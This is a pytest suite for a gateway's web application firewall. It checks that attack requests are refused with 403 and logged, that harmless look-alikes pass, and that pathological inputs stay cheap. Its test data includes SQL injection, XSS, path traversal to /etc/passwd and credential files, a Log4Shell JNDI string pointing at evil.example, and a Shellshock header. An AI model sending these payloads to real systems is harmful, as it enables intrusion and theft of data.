"""The gateway's firewall: attacks are refused and told of, honest requests are not."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import httpx
import psutil
import pytest

from infra_kit.providers.local.servers.gateway import HANDLER
from tests.live.servers.gateway_client import box, client, logged, props, route, serve
from tests.live.servers.origin import Origin


@pytest.fixture(scope="module")
def origin_of_all() -> Iterator[Origin]:
    server = Origin()
    yield server
    server.stop()


@pytest.fixture(scope="module")
def guarded(shared_home_dir: Path, origin_of_all: Origin) -> httpx.Client:
    _, outs = HANDLER.ensure(props(shared_home_dir, {"/*": route(origin_of_all)}, waf=True))
    return client(outs)


ATTACKS = {
    "sql-injection": [
        "/x?id=1%20UNION%20SELECT%20password%20FROM%20users",
        "/x?id=1/**/union/**/all/**/select/**/1",
        "/x?name=%27%20OR%20%271%27%3D%271",
        "/x?id=1+or+1=1",
        "/x?id=1;DROP%20TABLE%20users",
        "/x?id=1;%20delete%20from%20users",
        "/x?id=pg_sleep(10)",
        "/x?id=1%27%20waitfor%20delay%20%270:0:5%27",
        "/x?u=admin%27--",
        "/x?q=select+table_name+from+information_schema.tables",
    ],
    "cross-site-scripting": [
        "/x?q=%3Cscript%3Ealert(1)%3C/script%3E",
        "/x?q=%3CIMG%20SRC=x%20onerror=alert(1)%3E",
        "/x?q=%3Csvg/onload=alert(1)%3E",
        "/x?next=javascript:alert(1)",
        "/x?q=%3Ciframe+src=//evil.example%3E",
    ],
    "path-traversal": [
        "/x?file=../../etc/hosts",
        "/x?file=%2e%2e%2f%2e%2e%2fapp.py",
        "/x?f=/etc/passwd",
        "/x?f=..%5Cwin.ini",
    ],
    "null-byte": ["/x?f=a.png%00.php"],
    "header-injection": ["/x?next=a%0d%0aSet-Cookie:%20a=b"],
    "double-encoding": ["/x/%252e%252e/y", "/a%255cb"],
    "hidden-file": ["/.git/config", "/app/.env", "/.aws/credentials"],
    "code-in-header": ["/x?a=$%7Bjndi:ldap://evil.example/a%7D"],
}


@pytest.mark.parametrize(("rule", "path"), [(rule, path) for rule, paths in ATTACKS.items() for path in paths])
def test_an_attack_is_answered_403_and_told_of(
    shared_home_dir: Path, guarded: httpx.Client, origin_of_all: Origin, rule: str, path: str
) -> None:
    before = len(origin_of_all.requests)

    answer = guarded.get(path)

    assert answer.status_code == 403
    log = box(shared_home_dir).process.log.read_text().splitlines()
    assert f'gateway: refused {rule}: "GET" ' in [line for line in log if "gateway: refused" in line][-1]
    assert len(origin_of_all.requests) == before


@pytest.mark.parametrize(
    "path",
    [
        "/search?q=O%27Brien+and+sons",
        "/search?q=select+a+union+plan",
        "/search?q=price+%3C+10+and+size+%3E+2",
        "/search?q=1+or+2+rooms",
        "/search?q=drop+table+lamps;+black",
        "/search?q=sleep+8+hours&benchmark=1",
        "/search?q=%C3%A9t%C3%A9+%E2%80%94+%22quoted%22",
        "/search?filter=%7B%22a%22:%7B%22$gt%22:1%7D%7D",
        "/search?q=c%2B%2B&next=https://app.example.com/a?b=c%26d=e",
        "/search?q=wait...+what",
        "/search?onboarding=1&on=2",
        "/search?q=meta+script+and+iframe",
        "/search?range=2024-01-01..2024-02-01",
        "/.well-known/openid-configuration",
        "/files/a..b/c...d/~user/@me/x,v=1",
        "/%E6%97%A5%E6%9C%AC/a%26b%20c",
        "/release/1.2.3/app.tar.gz",
    ],
)
def test_an_honest_request_is_let_through(guarded: httpx.Client, path: str) -> None:
    assert guarded.get(path).status_code == 200


def test_methods_headers_and_bodies_of_an_odd_form_are_refused(guarded: httpx.Client) -> None:
    json = {"Content-Type": 'application/vnd.api+json; charset="utf-8"'}
    odd = [
        guarded.request("PROPFIND", "/x"),
        guarded.request("TRACE", "/x"),
        guarded.request("GET", "/x", content=b"body"),
        guarded.get("/x", headers={f"X-{number}": "1" for number in range(100)}),
        guarded.get("/x", headers={"Range": "bytes=0-1,2-3,4-5,6-7,8-9,10-11"}),
        guarded.get("/x?" + "&".join(f"a{number}=1" for number in range(257))),
        guarded.get("/x", headers={"User-Agent": "${jndi:ldap://evil.example/a}"}),
        guarded.get("/x", headers={"Referer": "() { :; }; echo vulnerable"}),
        guarded.post("/x", content=b"a", headers={"Content-Type": "application/json, text/html"}),
    ]
    fine = [
        guarded.post("/x", content=b"{}", headers=json),
        guarded.post("/x", files={"file": b"x"}),
        guarded.post("/x", data={"a": "1"}),
        guarded.post("/x"),
        guarded.get("/x", headers={"Range": "bytes=0-1", "Cookie": "a=${b}; c=<script>"}),
        guarded.options("/x"),
    ]

    assert [answer.status_code for answer in odd] == [403, 405, 403, 403, 403, 403, 403, 403, 403]
    assert [answer.status_code for answer in fine] == [200] * len(fine)


@pytest.mark.parametrize(
    "path",
    [
        "/a/../b", "/a/%2e%2e/b", "/a/..%2fb", "/a/.%2e;/b", "/a/..;/b", "/a/./b", "/a%5c..%5cb", "/a/..", "/%2e",
        "/admin;x/users", "/admin;/users", "//admin/users", "/%61dmin/users", "/admin%2Fusers",
    ],
)  # fmt: skip
def test_a_path_that_a_service_could_read_in_another_way_never_gets_through(
    home_dir: Path, origin: Origin, path: str
) -> None:
    client = serve(home_dir, {"/*": route(origin)}, access_logs=True)
    target = {"target": path.encode()}

    answer = client.send(client.build_request("GET", "/", extensions=target))

    assert answer.status_code == 400
    assert logged(home_dir, 1)[0][-1] == "ambiguous-path"
    assert origin.requests == []


def test_without_a_firewall_only_the_service_judges(home_dir: Path, origin: Origin) -> None:
    client = serve(home_dir, {"/*": route(origin)})

    assert client.get("/x?id=1+or+1=1").status_code == 200
    assert client.request("PROPFIND", "/x").status_code == 501


def test_what_is_logged_of_an_attack_is_one_line_without_its_query(home_dir: Path, origin: Origin) -> None:
    client = serve(home_dir, {"/*": route(origin)}, waf=True)

    client.get("/a%22%0Ab/.env?token=s3cr3t")

    log = box(home_dir).process.log.read_text()
    assert 'refused hidden-file: "GET" "/a%22%0Ab/.env" from 127.0.0.1' in log
    assert "s3cr3t" not in log


@pytest.mark.parametrize(
    "evil",
    ["'" + "%20" * 2000, "'%20or" + "+" * 6000, "'+or+" + "('" * 3000, "<" + "+" * 6000, "/*+" * 2000, "<" * 6000,
     "<onabc" + "+" * 6000, "union+" * 1000, "or+" + "1" * 6000, "';" + "+" * 6000 + "x", "select+" * 900],
)  # fmt: skip
def test_no_query_keeps_it_busy(guarded: httpx.Client, shared_home_dir: Path, evil: str) -> None:
    began = _worked(shared_home_dir)

    guarded.get("/x?q=" + evil)
    guarded.get("/x", headers={"Content-Type": "a/b" + " " * 3000 + ";" + " " * 3000 + "x"})

    assert _worked(shared_home_dir) - began < 0.5


def _worked(home: Path) -> float:
    """Seconds of a processor that nginx's workers have used."""
    workers = psutil.Process(box(home).process.pid).children()
    return sum(sum(it.cpu_times()[:2]) for it in workers)
